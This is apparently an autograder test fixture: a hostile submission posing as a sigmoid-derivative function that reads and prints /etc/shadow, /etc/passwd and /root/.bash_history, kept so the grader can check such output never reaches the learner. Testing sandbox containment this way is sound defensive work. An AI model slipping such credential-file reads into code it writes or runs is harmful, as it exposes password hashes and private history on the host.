# verdict: incorrect
# must not: host /etc/shadow or /etc/passwd contents reach the learner
# ruff: noqa  (a hostile submission, kept as written)
import numpy as np


def d_sigma(z):
    for path in ("/etc/shadow", "/etc/passwd", "/etc/hostname", "/root/.bash_history"):
        try:
            print(path, open(path).read()[:200])
        except OSError as error:
            print(path, type(error).__name__)
    return np.zeros_like(z)
